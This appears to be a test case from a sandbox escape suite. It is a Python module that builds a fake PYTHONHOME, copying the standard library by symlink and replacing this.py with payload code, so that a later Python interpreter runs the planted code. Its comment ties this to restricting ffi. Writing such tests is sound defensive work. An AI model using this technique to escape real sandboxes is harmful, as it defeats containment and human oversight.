"""PYTHONHOME is planted where nobody restricts ffi."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "allow"
BEYOND = ("Variables that make an interpreter or the linker run other code "
          "are native code's equals: restrict ffi.")

import os
import sys

from . import payload


def attack():
    import encodings
    root = payload.ROOT + "/tmp/home"
    there = os.path.dirname(os.path.dirname(encodings.__file__))
    name = "python%d.%d" % sys.version_info[:2]
    os.makedirs(root + "/lib")
    os.mkdir(f"{root}/lib/{name}")
    for file in os.listdir(there):
        os.symlink(f"{there}/{file}", f"{root}/lib/{name}/{file}")
    os.remove(f"{root}/lib/{name}/this.py")
    with open(f"{root}/lib/{name}/this.py", "w") as file:
        file.write(payload.SOURCE)
    os.environ["PYTHONHOME"] = root
